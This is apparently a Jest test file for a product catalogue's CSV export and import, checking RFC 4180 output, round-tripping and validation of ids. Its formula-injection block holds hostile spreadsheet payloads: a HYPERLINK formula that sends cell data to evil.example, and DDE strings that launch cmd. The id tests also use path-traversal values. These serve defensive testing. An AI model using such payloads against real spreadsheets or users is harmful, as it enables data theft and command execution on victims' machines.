/** @jest-environment node */
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'csv-stringify/sync';
import { catalogueToCsv, parseCsv } from '@/content/csv/csv';
import { importCatalogue } from '@/content/csv/import';
import { formatCellProblem } from '@/content/csv/problem-text';
import { fixtureCopy } from '../../tests/support/content/fixture-content';

let site: ReturnType<typeof fixtureCopy>;
beforeEach(() => (site = fixtureCopy()));
afterEach(() => site.remove());

const exported = () => catalogueToCsv(site.load().products);
const run = (csv: string | Uint8Array) =>
  importCatalogue({ root: site.root, csv, imageExists: () => true });
const files = (dir = site.root) =>
  Object.fromEntries(
    readdirSync(dir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => [join(e.parentPath, e.name), readFileSync(join(e.parentPath, e.name), 'utf8')]),
  );

/** Records as Python's csv module reads them: an outside judge of RFC 4180. */
function pythonRecords(csv: string, delimiter = ','): string[][] {
  const script =
    'import csv, io, json, sys\n' +
    'text = sys.stdin.buffer.read().decode("utf-8-sig")\n' +
    'print(json.dumps(list(csv.reader(io.StringIO(text, newline=""), delimiter=sys.argv[1]))))';
  return JSON.parse(
    execFileSync('python3', ['-c', script, delimiter], { input: csv, encoding: 'utf8' }),
  ) as string[][];
}

/** Name and feature cells that break a CSV writer that quotes only cells with a comma. */
function giveAwkwardText() {
  site.edit('products/mono-mfp-m3030.yaml', ({ ka, en }) => {
    en.name = 'Mono MFP; "M3030"';
    en.description = 'Line one;\r\nline "two"';
    en.features = ['Prints; copies', 'Scans to e-mail', '-10 °C start'];
    ka.features = ['ბეჭდავს', 'სკანირებს', 'მუშაობს -10 °C-ზე'];
  });
}

describe('catalogue CSV as other programs read it', () => {
  it('is RFC 4180: Python reads one record per product, every cell as written', () => {
    giveAwkwardText();
    const csv = exported();
    const products = site.load().products;
    const records = pythonRecords(csv);
    expect(records).toHaveLength(products.length + 1);
    const header = records[0]!;
    const m3030 = records.find((r) => r[0] === 'mono-mfp-m3030')!;
    const cell = (column: string) => m3030[header.indexOf(column)];
    expect(cell('name_en')).toBe('Mono MFP; "M3030"');
    expect(cell('description_en')).toBe('Line one;\r\nline "two"');
    // A cell starting with "-" gets the formula guard; lines after the first need none.
    expect(cell('features_en')).toBe('Prints; copies\nScans to e-mail\n-10 °C start');
    expect(cell('features_ka')!.split('\n')).toHaveLength(3);
  });

  it('reads a copy saved with ";" between cells, and it changes no file', async () => {
    giveAwkwardText();
    const before = files();
    const records = pythonRecords(exported());
    const result = await run(stringify(records, { delimiter: ';', bom: true }));
    expect(result.problems).toEqual([]);
    expect(result.unchanged).toBe(records.length - 1);
    expect(files()).toEqual(before);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    '=1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ];

  it('keeps a typed formula as text, and exports it so no spreadsheet runs it', async () => {
    const { header, rows } = parseCsv(exported());
    const cells = rows.map((r) => r.cells);
    attacks.forEach(
      (text, i) => (cells[i % cells.length]![i < 3 ? 'name_en' : 'subtitle_en'] = text),
    );
    // As typed into a file by hand: the import keeps the text as it is.
    expect((await run(stringify(cells, { header: true, columns: header }))).problems).toEqual([]);
    const stored = site.load().products.flatMap((p) => [p.name.en, p.subtitle.en]);
    expect(stored).toEqual(expect.arrayContaining(attacks));

    const records = pythonRecords(exported());
    for (const record of records.slice(1))
      for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.flat()).toEqual(expect.arrayContaining(attacks.map((a) => `'${a}`)));
  });

  it('round-trips text that really starts with "-" or "\'"', async () => {
    site.edit('products/mono-mfp-m3030.yaml', ({ en }) => {
      en.name = "'Quoted' model";
      en.subtitle = '-10 °C start';
      en.description = '=not a formula, a sentence';
    });
    const csv = exported();
    expect(pythonRecords(csv).flat()).toEqual(
      expect.arrayContaining(["''Quoted' model", "'-10 °C start", "'=not a formula, a sentence"]),
    );
    const before = files();
    const result = await run(csv);
    expect(result.problems).toEqual([]);
    expect(files()).toEqual(before);
  });
});

describe('ids from a spreadsheet', () => {
  it('lists a 300-character or path-like id as a problem, never an exception', async () => {
    const before = files();
    const { header, rows } = parseCsv(exported());
    const cells = rows.map((r) => r.cells);
    const long = 'a'.repeat(300);
    cells.push({ ...cells[0]!, id: long }, { ...cells[1]!, id: '../../outside' });
    cells.push({ ...cells[2]!, id: '/tmp/x' });
    const result = await run(stringify(cells, { header: true, columns: header }));
    const messages = result.problems.map(formatCellProblem);
    expect(messages).toEqual([
      expect.stringMatching(/^row 5, column id \("a{59}…"\): must be a lowercase slug/),
      expect.stringMatching(/^row 6, column id \("\.\.\/\.\.\/outside"\): must be a lowercase/),
      expect.stringMatching(/^row 7, column id \("\/tmp\/x"\): must be a lowercase slug/),
    ]);
    expect(result.problems.map((p) => p.value)).toEqual([long, '../../outside', '/tmp/x']);
    expect(files()).toEqual(before);
  });
});

describe('every problem of a row', () => {
  it('lists a row’s unknown category and missing image next to its bad number', async () => {
    const { header, rows } = parseCsv(exported());
    const cells = rows.map((r) => r.cells);
    // An empty name fails the schema, so this row never reaches the loader's reference checks.
    Object.assign(cells[0]!, {
      name_en: '',
      speedPpm: 'fast',
      categories: 'office|no-such-category',
    });
    cells[0]!.image_2_src = '/images/missing.svg';
    const result = await importCatalogue({
      root: site.root,
      csv: stringify(cells, { header: true, columns: header }),
      imageExists: (src) => src !== '/images/missing.svg',
    });
    expect(result.problems.map(formatCellProblem)).toEqual([
      'row 2, column speedPpm ("fast"): is not a number',
      'row 2, column name_en (empty): English text is empty',
      'row 2, column categories ("office|no-such-category"): unknown category "no-such-category"',
      'row 2, column image_2_src ("/images/missing.svg"): file public/images/missing.svg does not exist',
    ]);
  });
});
